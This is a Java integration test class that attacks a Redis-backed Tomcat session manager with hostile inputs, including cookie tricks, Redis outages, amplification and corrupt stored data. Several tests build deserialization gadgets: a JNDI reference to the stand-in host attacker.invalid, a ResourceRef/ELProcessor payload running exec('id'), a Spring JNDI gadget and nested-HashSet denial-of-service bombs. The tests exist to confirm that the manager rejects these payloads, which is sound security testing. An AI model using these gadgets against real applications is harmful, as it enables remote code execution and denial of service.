package io.tomcatredis.session.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import io.tomcatredis.session.RedisSessionManager;
import io.tomcatredis.session.RedisStore;
import io.tomcatredis.session.codec.AttributeCodec;
import io.tomcatredis.session.codec.ClassFilter;
import io.tomcatredis.session.store.SessionKeys;
import io.tomcatredis.testsupport.Await;
import io.tomcatredis.testsupport.ClusterRedis;
import io.tomcatredis.testsupport.RedisExtension;
import io.tomcatredis.testsupport.RedisOptions;
import io.tomcatredis.testsupport.StandaloneRedis;
import jakarta.servlet.http.HttpServlet;
import jakarta.servlet.http.HttpServletRequest;
import jakarta.servlet.http.HttpServletResponse;
import jakarta.servlet.http.HttpSession;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectInputStream;
import java.io.ObjectOutputStream;
import java.io.Serializable;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import javax.naming.Reference;
import javax.naming.StringRefAddr;
import org.apache.catalina.Context;
import org.apache.catalina.core.StandardContext;
import org.apache.catalina.session.PersistentManager;
import org.apache.catalina.session.StoreBase;
import org.apache.catalina.startup.Tomcat;
import org.apache.naming.ResourceRef;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.springframework.jndi.support.SimpleJndiBeanFactory;

/**
 * Third attack pass on issue 11 (hostile input and Redis trouble), on two embedded Tomcats and one
 * real Redis: inputs of the kinds the issue names (several session cookies, corrupt stored data,
 * gadget classes, big sessions, Redis down or frozen, amplification, the RedisStore entry point)
 * that the fuzzers and the earlier regression tests do not reach. Each test is named for the
 * promise it pins. Javadoc "FINDING": the test failed on the branch's main when it was written
 * (the promise is broken); "PIN": it passed, and keeps a promise of the issue from regressing.
 */
@Tag("tomcat")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputAttack3IT {

    private static final int TIMEOUT_MILLIS = 1000;
    /** A request that gets no complete answer within this is a hang (the legitimate ones take milliseconds). */
    private static final int HANG_MILLIS = 15_000;

    @RegisterExtension
    static final RedisExtension<StandaloneRedis> REDIS = RedisExtension.standalone();

    private RedisUnderTest redis;
    private TomcatNode node1;
    private TomcatNode node2;
    private HttpSessionClient owner;
    private String base;

    @BeforeAll
    void startNodes() {
        redis = RedisUnderTest.standalone(REDIS.get());
        node1 = TomcatNode.start("atk1", this::configure, HostileInputAttack3IT::addAttackServlet);
        node2 = TomcatNode.start("atk2", this::configure, HostileInputAttack3IT::addAttackServlet);
    }

    @AfterAll
    void stopNodes() {
        node1.close();
        node2.close();
        redis.close();
    }

    @BeforeEach
    void ownerSession() {
        redis.flushAll();
        owner = new HttpSessionClient();
        owner.ok(node1.url("set?name=a&value=mine"));
        base = SessionKeys.baseId(owner.sessionId());
    }

    /**
     * While the bomb findings stand, the request thread they hang keeps a core busy for about a
     * minute after the test gave up on it, which would starve every later test in this JVM (their
     * saves time out). Stop such threads: a CPU loop ignores interruption, and Thread.stop still
     * works on Java 17 (on later versions the thread is left to finish).
     */
    @AfterEach
    void defuseHashSetBombs() {
        Thread.getAllStackTraces().forEach((thread, stack) -> {
            boolean hashing = Arrays.stream(stack).anyMatch(frame -> frame.getClassName().equals("java.util.AbstractSet")
                    && frame.getMethodName().equals("hashCode"));
            if (hashing && thread != Thread.currentThread()) {
                stop(thread);
            }
        });
    }

    @SuppressWarnings({"deprecation", "removal"})
    private static void stop(Thread thread) {
        try {
            thread.stop();
        } catch (UnsupportedOperationException e) {
            // Java 20 and later: no way to stop it; it ends on its own.
        }
    }

    private void configure(RedisSessionManager manager) {
        redis.configure(manager);
        manager.setTimeoutMillis(Integer.toString(TIMEOUT_MILLIS));
    }

    // ------------------------------------------------------------------ session cookies and ids

    /**
     * FINDING. Tomcat checks the first JSESSIONID cookie (isRequestedSessionIdValid, a findSession)
     * while it parses the request, before any valve: with Redis down the manager's pre-scope lookup
     * throws SessionStoreUnavailableException into the connector, which answers 500 (Tomcat's
     * Http11Processor) even for a page that never uses the session.
     */
    @Test
    void twoSessionCookiesWhileRedisIsDownNeverAnswer500() {
        try (StandaloneRedis own = StandaloneRedis.start();
             TomcatNode node = TomcatNode.start("atk-down", m -> {
                 m.setRedisUri(own.uri());
                 m.setTimeoutMillis(Integer.toString(TIMEOUT_MILLIS));
             })) {
            HttpSessionClient browser = new HttpSessionClient();
            browser.ok(node.url("set?name=a&value=mine"));
            List<String> cookies = List.of("JSESSIONID=" + browser.sessionId() + "; JSESSIONID=" + unknownId(1));
            own.node().kill();

            RawHttp.Reply page = RawHttp.get(node.port(), "/app/s/none", cookies, HANG_MILLIS);
            RawHttp.Reply read = RawHttp.get(node.port(), "/app/s/get?name=a", cookies, HANG_MILLIS);

            assertThat(page.status()).as("a page that needs no session, with two session cookies: %s", page.head())
                    .isEqualTo(200);
            assertThat(read.status()).as("a page that needs the session, with two session cookies: %s", read.head())
                    .isEqualTo(503);
        }
    }

    /**
     * FINDING. RedisCalls promises that a call that timed out is not retried, "so no request waits
     * much longer than timeoutMillis" (README: a frozen Redis answers 503 after timeoutMillis); but
     * RedisSessionStore.claim runs claim.lua a second time after any SessionStoreUnavailableException,
     * timeouts included, and the failed invalidation leaves the session live for the end-of-request
     * save: a sign-out while Redis is frozen takes two to three times timeoutMillis.
     */
    @Test
    void invalidationWhileRedisIsFrozenAnswers503WithinTimeoutMillis() throws Exception {
        int timeoutMillis = 2000;
        try (StandaloneRedis own = StandaloneRedis.start();
             TomcatNode node = TomcatNode.start("atk-freeze", m -> {
                 m.setRedisUri(own.uri());
                 m.setTimeoutMillis(Integer.toString(timeoutMillis));
             }, HostileInputAttack3IT::addAttackServlet)) {
            HttpSessionClient browser = new HttpSessionClient();
            browser.ok(node.url("set?name=a&value=1"));
            AttackServlet.ARRIVED = new CountDownLatch(1);
            AttackServlet.RELEASE = new CountDownLatch(1);
            CompletableFuture<HttpSessionClient.Reply> signOut = CompletableFuture.supplyAsync(
                    () -> browser.get(attackUrl(node, "invalidate-when-released")));
            assertThat(AttackServlet.ARRIVED.await(30, TimeUnit.SECONDS)).as("request loaded its session").isTrue();
            own.node().pause();
            try {
                long start = System.nanoTime();
                AttackServlet.RELEASE.countDown();
                HttpSessionClient.Reply reply = signOut.get(60, TimeUnit.SECONDS);
                long millis = (System.nanoTime() - start) / 1_000_000;

                assertThat(reply.status()).isEqualTo(503);
                assertThat(millis).as("ms from the invalidation to the 503 (timeoutMillis=%d)", timeoutMillis)
                        .isLessThan(timeoutMillis + 1500L);
            } finally {
                own.node().resume();
            }
        }
    }

    /**
     * FINDING. StandardManager counts a session's idle time from the start of the last request
     * (thisAccessedTime), so a request that found its session live keeps it. Here the load is
     * read-only and the deadline is pushed only by the save at the end: a request that started
     * just before the deadline and ended after it is answered 200, while save.lua refuses its save
     * (-1), its changes are dropped (one WARN in the log) and the session is gone.
     */
    @Test
    void requestThatFoundItsSessionLiveSavesItsChangesEvenIfItEndsAfterTheDeadline() throws Exception {
        HttpSessionClient browser = new HttpSessionClient();
        browser.ok(node1.url("max-inactive?value=3"));
        String key = redis.sessionKey(browser.sessionId());
        AttackServlet.ARRIVED = new CountDownLatch(1);
        AttackServlet.RELEASE = new CountDownLatch(1);
        CompletableFuture<HttpSessionClient.Reply> late = CompletableFuture.supplyAsync(
                () -> browser.get(attackUrl(node1, "set-when-released")));
        assertThat(AttackServlet.ARRIVED.await(30, TimeUnit.SECONDS)).as("request found its session").isTrue();
        long deadline = Long.parseLong(redis.client().hget(key, "meta:lastAccessedTime")) + 3000;
        Await.until(Duration.ofSeconds(30), "the deadline to pass by Redis' clock", () -> redisMillis() > deadline);

        AttackServlet.RELEASE.countDown();
        HttpSessionClient.Reply reply = late.get(30, TimeUnit.SECONDS);

        assertThat(reply.status()).isEqualTo(200);
        assertThat(browser.ok(node2.url("get?name=late"))).as("the change of a request answered 200").isEqualTo("1");
    }

    private long redisMillis() {
        try (redis.clients.jedis.Jedis jedis = REDIS.get().node().client()) {
            List<String> time = jedis.time();
            return Long.parseLong(time.get(0)) * 1000 + Long.parseLong(time.get(1)) / 1000;
        }
    }

    /**
     * FINDING. Tomcat replaces the requested id while the current one is not valid; the manager's
     * pre-scope budget (one Redis lookup per request) answers "no session" for the second cookie
     * without asking Redis, so with cookies [unknown, live, unknown] Tomcat settles on the last one
     * and the user's live session is ignored (StandardManager keeps the live one).
     */
    @Test
    void liveSessionBetweenTwoUnknownSessionCookiesIsUsedAsByStandardManager() {
        List<String> cookies = List.of("JSESSIONID=" + unknownId(1) + "; JSESSIONID=" + owner.sessionId()
                + "; JSESSIONID=" + unknownId(2));

        RawHttp.Reply reply = RawHttp.get(node2.port(), "/app/s/get?name=a", cookies, HANG_MILLIS);

        assertThat(reply.status()).isEqualTo(200);
        assertThat(reply.body()).as("the attribute of the live session among the cookies").isEqualTo("mine");
    }

    /** PIN. The route-suffix flood of issue 11 through the URL: one key and one index entry. */
    @Test
    void routeSuffixesInJsessionidPathParametersNeverAddSessionsOrIndexEntries() {
        for (int i = 1; i <= 20; i++) {
            TomcatNode node = i % 2 == 0 ? node1 : node2;
            RawHttp.Reply reply = RawHttp.get(node.port(), "/app/s/set;jsessionid=" + base + ".r" + i
                    + "?name=b&value=" + i, List.of(), HANG_MILLIS);
            assertThat(reply.status()).isEqualTo(200);
            assertThat(reply.issuedSessionIds()).as("no new session for a route suffix").isEmpty();
        }

        assertThat(node1.manager().getActiveSessions()).isEqualTo(1);
        assertThat(redis.client().zrange(redis.indexKey(base), 0, -1)).containsExactly(base);
        assertThat(redis.keys()).containsExactlyInAnyOrder(redis.sessionKey(base), redis.indexKey(base));
        assertThat(owner.ok(node2.url("get?name=b"))).isEqualTo("20");
    }

    /**
     * PIN. A session id of fullwidth hex digits, percent-encoded in {@code ;jsessionid=} (the
     * only way to bring non-ASCII into an id: raw UTF-8 in the request line is a 400, and a cookie
     * value cannot hold it), never reaches Redis.
     */
    @Test
    void percentEncodedFullwidthHexIdNeverReachesRedis() {
        StringBuilder fullwidth = new StringBuilder();
        base.chars().forEach(c -> fullwidth.append((char) (c <= '9' ? 0xFF10 + (c - '0') : 0xFF21 + (c - 'A'))));
        String requestLineBytes = URLEncoder.encode(fullwidth.toString(), StandardCharsets.UTF_8);
        redis.commands().reset();

        RawHttp.Reply reply = RawHttp.get(node1.port(), "/app/s/get;jsessionid=" + requestLineBytes + "?name=a",
                List.of(), HANG_MILLIS);

        assertThat(reply.status()).isEqualTo(200);
        assertThat(reply.body()).isEqualTo("no session");
        assertThat(redis.commands().calls()).as("Redis commands for a malformed id").doesNotContainKeys("evalsha", "eval");
    }

    /**
     * PIN. Ids of another context: with {@code sessionCookiePath="/"} on both webapps Tomcat gives
     * /other a session under the id of /app's session (validateClientProvidedNewSessionId finds it
     * there); each webapp reads and writes only its own hash, and invalidating one leaves the other.
     */
    @Test
    void idOfAnotherContextSharingTheCookiePathReadsAndWritesOnlyItsOwnSession() {
        try (TomcatNode node = TomcatNode.start("atk-ctx", this::configure, this::addOtherContext)) {
            HttpSessionClient browser = new HttpSessionClient();
            browser.ok(node.url("set?name=a&value=app-secret"));
            String id = browser.sessionId();
            String other = "http://127.0.0.1:" + node.port() + "/other/s/";

            assertThat(browser.ok(other + "get?name=a")).isEqualTo("no session");
            assertThat(browser.ok(other + "set?name=b&value=other-value")).isEqualTo(id);
            assertThat(browser.ok(other + "get?name=a")).as("/app's attribute seen in /other").isEqualTo("null");
            assertThat(browser.ok(node.url("get?name=b"))).as("/other's attribute seen in /app").isEqualTo("null");
            browser.ok(other + "invalidate");

            assertThat(browser.ok(node.url("get?name=a"))).isEqualTo("app-secret");
            assertThat(redis.keys()).as("keys of /other after its invalidation")
                    .noneMatch(key -> key.startsWith("tomcat-session:localhost/other:{"));
        }
    }

    private void addOtherContext(Context app) {
        app.setSessionCookiePath("/");
        StandardContext other = new StandardContext();
        other.setName("/other");
        other.setPath("/other");
        other.setDocBase(app.getDocBase());
        other.setSessionCookiePath("/");
        other.addLifecycleListener(new Tomcat.FixContextListener());
        RedisSessionManager manager = new RedisSessionManager();
        configure(manager);
        other.setManager(manager);
        app.getParent().addChild(other);
        Tomcat.addServlet(other, "session", new SessionServlet());
        other.addServletMappingDecoded("/s/*", "session");
    }

    // ------------------------------------------------------------------ amplification

    /**
     * FINDING. With Redis Cluster and maxActiveSessions set (the usual guard against session
     * floods), ManagerBase.createSession asks getActiveSessions(), which counts the expiry index
     * with one ZCARD per slot: an anonymous request that creates a session costs 16,384 Redis
     * commands in 16 pipelined round trips (standalone: one ZCARD).
     */
    @Test
    void anonymousSessionCreationOnClusterWithMaxActiveSessionsCostsAConstantNumberOfCommands() {
        try (ClusterRedis cluster = ClusterRedis.start(3, 0, RedisOptions.DEFAULTS);
             RedisUnderTest onCluster = RedisUnderTest.cluster(cluster);
             TomcatNode node = TomcatNode.start("atk-cluster", m -> {
                 onCluster.configure(m);
                 m.setTimeoutMillis("2000");
                 m.setMaxActiveSessions(100_000);
             })) {
            new HttpSessionClient().ok(node.url("create"));
            onCluster.commands().reset();

            HttpSessionClient anonymous = new HttpSessionClient();
            anonymous.ok(node.url("create"));

            long commands = onCluster.commands().calls().values().stream().mapToLong(Long::longValue).sum();
            assertThat(commands).as("Redis commands of one anonymous request creating a session: %s",
                    onCluster.commands().calls()).isLessThanOrEqualTo(20);
        }
    }

    // ------------------------------------------------------------------ what Redis hands back

    /** PIN. The deny-list works for the exact JNDI reference class. */
    @Test
    void jndiReferenceStoredAsAnAttributeIsDropped() {
        Reference reference = new Reference("java.lang.Runnable", "com.example.EvilFactory", "ldap://attacker.invalid/x");
        storeAttribute("ref", javaSerialized(reference));

        assertThat(owner.ok(node2.url("get?name=ref"))).isEqualTo("null");
        assertThat(owner.ok(node2.url("get?name=a"))).isEqualTo("mine");
    }

    /**
     * PIN. A subclass of a denied class written with Java serialization: Tomcat's own
     * {@code org.apache.naming.ResourceRef} with its addresses (the classic BeanFactory
     * JNDI-injection payload) is dropped, as the JDK's filter sees every class of the hierarchy.
     */
    @Test
    void jndiReferenceSubclassStoredAsAnAttributeIsDroppedLikeReferenceItself() {
        ResourceRef reference = new ResourceRef("javax.el.ELProcessor", null, "", "", true,
                "org.apache.naming.factory.BeanFactory", null);
        reference.add(new StringRefAddr("forceString", "x=eval"));
        reference.add(new StringRefAddr("x", "Runtime.getRuntime().exec('id')"));
        storeAttribute("ref", javaSerialized(reference));

        assertThat(owner.ok(node2.url("get?name=ref"))).as("a JNDI reference (ResourceRef) from Redis").isEqualTo("null");
        assertThat(owner.ok(node2.url("get?name=a"))).isEqualTo("mine");
    }

    /**
     * FINDING. marshalsec's Spring JNDI gadget ({@code SimpleJndiBeanFactory}, used by its
     * SpringAbstractBeanFactoryPointcutAdvisor and SpringPartiallyComparableAdvisorHolder chains for
     * Kryo and Hessian) is not on the deny-list: Kryo instantiates it from a stored attribute.
     */
    @Test
    void springJndiBeanFactoryGadgetStoredAsAnAttributeIsDropped() throws Exception {
        AttributeCodec kryo = AttributeCodec.create("kryo", getClass().getClassLoader(), ClassFilter.DENY_LIST_ONLY);
        SimpleJndiBeanFactory gadget = new SimpleJndiBeanFactory();
        gadget.addShareableResource("ldap://attacker.invalid/x");
        storeAttribute("gadget", kryo.encode(new ArrayList<>(List.of(gadget))));

        assertThat(owner.ok(node2.url("get?name=gadget"))).as("a Spring JNDI bean factory from Redis").isEqualTo("null");
        assertThat(owner.ok(node2.url("get?name=a"))).isEqualTo("mine");
    }

    /**
     * FINDING. StandardManager applies {@code sessionAttributeValueClassNameFilter} to every class
     * while it deserializes (CustomObjectInputStream.resolveClass), so a class the operator excluded
     * is never instantiated. Here the pattern is checked only on the top-level value's class after
     * the whole value was deserialized: a nested excluded class is instantiated and its readObject
     * runs before the value is dropped.
     */
    @Test
    void classesExcludedBySessionAttributeValueClassNameFilterAreNeverInstantiatedFromRedis() {
        try (TomcatNode strict = TomcatNode.start("atk-strict", m -> {
            configure(m);
            m.setSessionAttributeValueClassNameFilter("java\\.lang\\.String");
        })) {
            HttpSessionClient browser = new HttpSessionClient();
            browser.ok(strict.url("set?name=a&value=kept"));
            HashMap<String, Object> value = new HashMap<>();
            value.put("k", new Canary());
            byte[] bytes = javaSerialized(value);
            Canary.READS.set(0);
            redis.client().hset(redis.sessionKey(browser.sessionId()).getBytes(StandardCharsets.UTF_8),
                    "attr:c".getBytes(StandardCharsets.UTF_8), bytes);

            assertThat(browser.ok(strict.url("get?name=c"))).isEqualTo("null");
            assertThat(browser.ok(strict.url("get?name=a"))).isEqualTo("kept");
            assertThat(Canary.READS.get()).as("readObject calls of a class the filter excludes").isZero();
        }
    }

    /** Counts its deserializations. */
    static final class Canary implements Serializable {
        private static final long serialVersionUID = 1L;
        static final AtomicInteger READS = new AtomicInteger();

        private void readObject(ObjectInputStream in) throws IOException, ClassNotFoundException {
            in.defaultReadObject();
            READS.incrementAndGet();
        }
    }

    /**
     * FINDING. A 1.5 kB Java-serialized value of nested HashSets (the public "SerialDOS" payload)
     * costs 2^depth hashCode calls to deserialize: no class is denied, no depth or work limit
     * applies, and the request that reads the attribute never answers within any bound (here about
     * a minute of CPU at depth 29; at depth 40 it would run for days).
     */
    @Test
    void nestedHashSetBombStoredAsAnAttributeNeverHangsTheRequest() {
        storeAttribute("bomb", javaSerialized(hashSetBomb(29)));

        RawHttp.Reply reply = RawHttp.get(node1.port(), "/app/s/get?name=bomb",
                List.of("JSESSIONID=" + owner.sessionId()), HANG_MILLIS);

        assertThat(reply.status()).isIn(200, 503);
        assertThat(owner.ok(node2.url("get?name=a"))).isEqualTo("mine");
    }

    /**
     * FINDING. The same nested-HashSet bomb in the Kryo format (what {@code serializer="kryo"},
     * the default, writes): Kryo rebuilds each HashSet with add(), hashing 2^depth times; a fix for
     * Java serialization alone (an ObjectInputFilter depth limit) would not cover it.
     */
    @Test
    void nestedHashSetBombInTheKryoFormatNeverHangsTheRequest() throws Exception {
        AttributeCodec kryo = AttributeCodec.create("kryo", getClass().getClassLoader(), ClassFilter.DENY_LIST_ONLY);
        // Decide HashSet and String first: a class new to the codec is read back once after writing.
        kryo.encode(new HashSet<>(Set.of(new HashSet<>(Set.of("foo")))));
        byte[] bomb = kryo.encode(hashSetBomb(29));
        assertThat(bomb[0]).as("Kryo format 2").isEqualTo((byte) 0xF2);
        storeAttribute("bomb", bomb);

        RawHttp.Reply reply = RawHttp.get(node1.port(), "/app/s/get?name=bomb",
                List.of("JSESSIONID=" + owner.sessionId()), HANG_MILLIS);

        assertThat(reply.status()).isIn(200, 503);
        assertThat(owner.ok(node2.url("get?name=a"))).isEqualTo("mine");
    }

    /**
     * FINDING. A corrupt {@code meta:version} (not an integer) makes the save script's HINCRBY fail
     * after its HSETs: every request that writes the session answers 503 (while its attributes were
     * in fact written), and the session never heals until its key's TTL ends.
     */
    @Test
    void corruptStoredVersionHealsInsteadOfFailingEverySave() {
        redis.client().hset(redis.sessionKey(base), "meta:version", "not-a-number");

        owner.get(node2.url("set?name=b&value=1"));
        HttpSessionClient.Reply second = owner.get(node1.url("set?name=b&value=2"));

        assertThat(second.status()).as("a save after the corrupt version was seen: %s", second.body()).isEqualTo(200);
        assertThat(owner.ok(node2.url("get?name=b"))).isEqualTo("2");
    }

    /**
     * FINDING. One due session whose claim key ({@code <hash>:claimed}) holds another type makes
     * claim.lua fail with WRONGTYPE before it removes the index entry; ExpirySweeper lets the
     * exception end the whole run, and the entry is first again at every run: no session of the
     * webapp expires any more (issue 11: "stall the expiry sweep").
     */
    @Test
    void claimKeyOfTheWrongTypeDoesNotStallTheExpirySweep() {
        HttpSessionClient other = new HttpSessionClient();
        other.ok(node1.url("set?name=a&value=theirs"));
        String otherBase = SessionKeys.baseId(other.sessionId());
        redis.client().set(redis.sessionKey(base) + ":claimed", "not a claim");
        for (String id : List.of(base, otherBase)) {
            redis.client().hset(redis.sessionKey(id), "meta:lastAccessedTime", "1000");
        }
        redis.client().zadd(redis.indexKey(base), 1, base);
        redis.client().zadd(redis.indexKey(base), 2, otherBase);

        assertThatCode(() -> node1.manager().processExpires()).doesNotThrowAnyException();

        assertThat(redis.client().exists(redis.sessionKey(otherBase))).as("the other due session was expired").isFalse();
        assertThat(redis.client().zrange(redis.indexKey(base), 0, -1)).doesNotContain(otherBase);
    }

    /**
     * FINDING. A session that never expires (maxInactiveInterval 0) is indexed with score +inf and
     * its key lives {@code NEVER_EXPIRES_TTL_SECONDS} (30 days) after its last save. Once that TTL
     * ends (simulated here by shortening it), the key is gone but the index member stays forever:
     * the sweep never reads +inf, every save of any other session renews the index key, and
     * getActiveSessions (and so maxActiveSessions) counts every abandoned session for good.
     */
    @Test
    void neverExpiringSessionWhoseKeyReachedItsTtlLeavesNoIndexEntryBehind() {
        HttpSessionClient abandoned = new HttpSessionClient();
        abandoned.ok(node1.url("max-inactive?value=0"));
        String gone = SessionKeys.baseId(abandoned.sessionId());
        redis.client().pexpire(redis.sessionKey(gone), 1);
        Await.until(Duration.ofSeconds(10), "the key's TTL to end",
                () -> !redis.client().exists(redis.sessionKey(gone)));
        owner.ok(node2.url("set?name=a&value=still-here"));

        node1.manager().processExpires();

        assertThat(redis.client().zrange(redis.indexKey(base), 0, -1)).as("index members").containsExactly(base);
        assertThat(node1.manager().getActiveSessions()).isEqualTo(1);
    }

    // ------------------------------------------------------------------ RedisStore (PersistentManager)

    /**
     * FINDING. The route-suffix flood of issue 11 through the public {@code RedisStore}: Tomcat's
     * PersistentManager looks ids up in memory by exact id and swaps in from the store on a miss;
     * RedisStore.load strips the suffix (and checks no form), so each {@code X.rN} becomes one more
     * session object in the manager: its count, and maxActiveSessions, grow by one per request (with
     * Tomcat's FileStore an unknown suffixed id finds nothing).
     */
    @Test
    void routeSuffixesOfOneIdNeverAddSessionsToAPersistentManagerWithRedisStore() {
        PersistentManager manager = persistentManager();
        try (TomcatNode node = TomcatNode.startWith("atk-pm", () -> manager, c -> { })) {
            HttpSessionClient browser = new HttpSessionClient();
            browser.ok(node.url("set?name=a&value=mine"));
            String stored = SessionKeys.baseId(browser.sessionId());
            manager.setMaxIdleBackup(0);
            manager.processPersistenceChecks();
            assertThat(redis.client().exists(redis.sessionKey(stored))).as("backed up to Redis").isTrue();

            for (int i = 1; i <= 20; i++) {
                HttpSessionClient crafted = new HttpSessionClient();
                crafted.sessionId(stored + ".r" + i);
                crafted.ok(node.url("get?name=a"));
            }

            assertThat(manager.getActiveSessions()).as("sessions of the PersistentManager").isEqualTo(1);
        }
    }

    /**
     * FINDING. Tomcat's StoreBase.processExpires loads each id of expiredKeys() and expires and
     * removes the session it gets; RedisStore.load answers null for a session whose deadline passed
     * (load.lua's "expired"), so a swapped-out session is never expired (no sessionDestroyed), and
     * its index member is never removed, not even once the key's TTL deleted the hash: the first
     * 1,000 such members make every later expiredKeys() call return nothing else.
     */
    @Test
    void redisStoreExpiresASwappedOutSessionWhoseDeadlinePassed() throws IOException {
        PersistentManager manager = persistentManager();
        try (TomcatNode node = TomcatNode.startWith("atk-pm-expiry", () -> manager, c -> { })) {
            // The owner's session, written by a RedisSessionManager node on the same layout, is one
            // this PersistentManager does not hold in memory: a swapped-out session. Its deadline passed.
            redis.client().hset(redis.sessionKey(base), "meta:lastAccessedTime", "1000");
            redis.client().zadd(redis.indexKey(base), 2, base);
            assertThat(((StoreBase) manager.getStore()).expiredKeys()).contains(base);

            ((StoreBase) manager.getStore()).processExpires();

            assertThat(redis.client().exists(redis.sessionKey(base))).as("the expired session's key").isFalse();
            assertThat(redis.client().zrange(redis.indexKey(base), 0, -1)).doesNotContain(base);
        }
    }

    /**
     * FINDING. With Tomcat's PersistentManager and RedisStore, Redis down turns any request that
     * carries the cookie of a swapped-out session into a 500 whose error page shows the stack trace
     * (RedisStore.load throws the unchecked SessionStoreUnavailableException through Tomcat's
     * authenticator; no valve of ours turns it into a 503 there), naming the Redis address.
     */
    @Test
    void redisDownBehindAPersistentManagerWithRedisStoreNeverShowsAStackTrace() {
        try (StandaloneRedis own = StandaloneRedis.start()) {
            HttpSessionClient browser = new HttpSessionClient();
            try (TomcatNode writer = TomcatNode.start("atk-pm-writer", m -> m.setRedisUri(own.uri()))) {
                browser.ok(writer.url("set?name=a&value=mine"));
            }
            PersistentManager manager = persistentManager(own.uri());
            try (TomcatNode node = TomcatNode.startWith("atk-pm-down", () -> persistentManager(own.uri()), c -> { })) {
                // The session is in Redis and not in this PersistentManager's memory: swapped out.
                own.node().kill();

                HttpSessionClient.Reply reply = browser.get(node.url("get?name=a"));

                assertThat(reply.status()).as("status with Redis down: %s", reply.body()).isNotEqualTo(500);
                assertThat(reply.body()).doesNotContain("Exception").doesNotContain("at io.tomcatredis");
            }
        }
    }

    /**
     * PIN (issue 11, section 4, for both entry points): a standalone Redis away at deploy time
     * neither stops the context of a RedisSessionManager nor that of a PersistentManager with
     * RedisStore; sessions work once Redis answers, without a redeploy.
     */
    @Test
    void standaloneRedisAwayAtDeployStartsBothEntryPointsAndServesOnceItAnswers() {
        try (StandaloneRedis own = StandaloneRedis.start()) {
            own.node().kill();
            try (TomcatNode managed = TomcatNode.start("atk-away", m -> {
                     m.setRedisUri(own.uri());
                     m.setTimeoutMillis(Integer.toString(TIMEOUT_MILLIS));
                 });
                 TomcatNode persistent = TomcatNode.startWith("atk-away-pm", () -> persistentManager(own.uri()), c -> { })) {
                assertThat(managed.isContextAvailable()).as("RedisSessionManager's context").isTrue();
                assertThat(persistent.isContextAvailable()).as("RedisStore's context").isTrue();
                assertThat(new HttpSessionClient().get(managed.url("set?name=a&value=1")).status()).isEqualTo(503);

                own.node().start();

                HttpSessionClient browser = new HttpSessionClient();
                Await.until(Duration.ofSeconds(30), "sessions once Redis answers",
                        () -> browser.get(managed.url("set?name=a&value=1")).status() == 200);
                assertThat(browser.ok(managed.url("get?name=a"))).isEqualTo("1");
            }
        }
    }

    private PersistentManager persistentManager() {
        return persistentManager(REDIS.get().uri());
    }

    private static PersistentManager persistentManager(String redisUri) {
        PersistentManager manager = new PersistentManager();
        RedisStore store = new RedisStore();
        store.setProperty("redisUri", redisUri);
        store.setProperty("timeoutMillis", Integer.toString(TIMEOUT_MILLIS));
        manager.setStore(store);
        return manager;
    }

    // ------------------------------------------------------------------ big sessions

    /** PIN. Five times the 4,000 attributes of issue 11: saved atomically, read on the other node. */
    @Test
    void sessionOfTwentyThousandAttributesIsSavedAndReadOnTheOtherNode() {
        HttpSessionClient browser = new HttpSessionClient();

        assertThat(browser.ok(node1.url("many?value=20000"))).isEqualTo("20000");

        assertThat(browser.ok(node2.url("count"))).isEqualTo("20000");
        assertThat(browser.ok(node2.url("get?name=attribute-19999"))).isEqualTo("value-19999");
    }

    /** PIN. A multi-megabyte attribute is saved and read back intact on the other node. */
    @Test
    void eightMegabyteAttributeIsSavedAndReadIntactOnTheOtherNode() {
        HttpSessionClient browser = new HttpSessionClient();

        String written = browser.ok(attackUrl(node1, "big?mb=8"));

        assertThat(browser.ok(attackUrl(node2, "big-check"))).isEqualTo(written);
    }

    // ------------------------------------------------------------------ helpers

    /** Servlet for inputs SessionServlet cannot express (a value too big for a URL). */
    private static void addAttackServlet(Context context) {
        Tomcat.addServlet(context, "attack3", new AttackServlet());
        context.addServletMappingDecoded("/x/*", "attack3");
    }

    private static String attackUrl(TomcatNode node, String path) {
        return "http://127.0.0.1:" + node.port() + "/app/x/" + path;
    }

    static final class AttackServlet extends HttpServlet {
        private static final long serialVersionUID = 1L;
        /** Hold a request of op invalidate-when-released between its load and its invalidation. */
        static volatile CountDownLatch ARRIVED = new CountDownLatch(0);
        static volatile CountDownLatch RELEASE = new CountDownLatch(0);

        @Override
        protected void service(HttpServletRequest request, HttpServletResponse response) throws IOException {
            response.setContentType("text/plain;charset=UTF-8");
            String op = request.getPathInfo() == null ? "" : request.getPathInfo().substring(1);
            switch (op) {
                case "big" -> {
                    byte[] value = new byte[Integer.parseInt(request.getParameter("mb")) << 20];
                    for (int i = 0; i < value.length; i++) {
                        value[i] = (byte) (i * 31 + (i >>> 12));
                    }
                    request.getSession().setAttribute("big", value);
                    response.getWriter().write(value.length + ":" + Arrays.hashCode(value));
                }
                case "big-check" -> {
                    HttpSession session = request.getSession(false);
                    byte[] value = session == null ? null : (byte[]) session.getAttribute("big");
                    response.getWriter().write(value == null ? "none" : value.length + ":" + Arrays.hashCode(value));
                }
                case "invalidate-when-released" -> {
                    HttpSession session = request.getSession(false);
                    awaitRelease();
                    session.invalidate();
                    response.getWriter().write("invalidated");
                }
                case "set-when-released" -> {
                    HttpSession session = request.getSession(false);
                    awaitRelease();
                    session.setAttribute("late", "1");
                    response.getWriter().write("set");
                }
                default -> response.sendError(404);
            }
        }

        private static void awaitRelease() {
            ARRIVED.countDown();
            try {
                if (!RELEASE.await(30, TimeUnit.SECONDS)) {
                    throw new IllegalStateException("not released");
                }
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
                throw new IllegalStateException(e);
            }
        }
    }

    /** A well-formed id, as long as the owner's, that no node issued. */
    private String unknownId(int n) {
        String hex = String.format(Locale.ROOT, "%0" + base.length() + "X", n);
        return hex.substring(hex.length() - base.length()) + ".atk1";
    }

